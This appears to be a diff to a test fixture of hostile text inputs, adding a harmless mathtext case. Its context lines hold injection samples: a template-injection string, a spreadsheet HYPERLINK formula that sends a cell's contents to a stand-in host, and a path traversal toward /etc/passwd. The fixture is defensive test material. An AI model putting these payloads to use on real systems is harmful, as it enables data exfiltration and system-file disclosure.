@@ -126,4 +126,5 @@ HOSTILE_TEXT: dict[str, tuple[str, str]] = {
     "template, backslash, entity": ("${alert(1)} `tick` back\\slash &amp; &#0;", "${alert(1)} `tick` back\\slash &amp; &#0;"),
     "a formula": ('=HYPERLINK("http://x.invalid/?"&A1,"see")', '=HYPERLINK("http://x.invalid/?"&A1,"see")'),
     "a path": ("../../etc/passwd", "../../etc/passwd"),
+    "mathtext": ("$\\undefinedcmd$ $x^2$", "$\\undefinedcmd$ $x^2$"),
 }
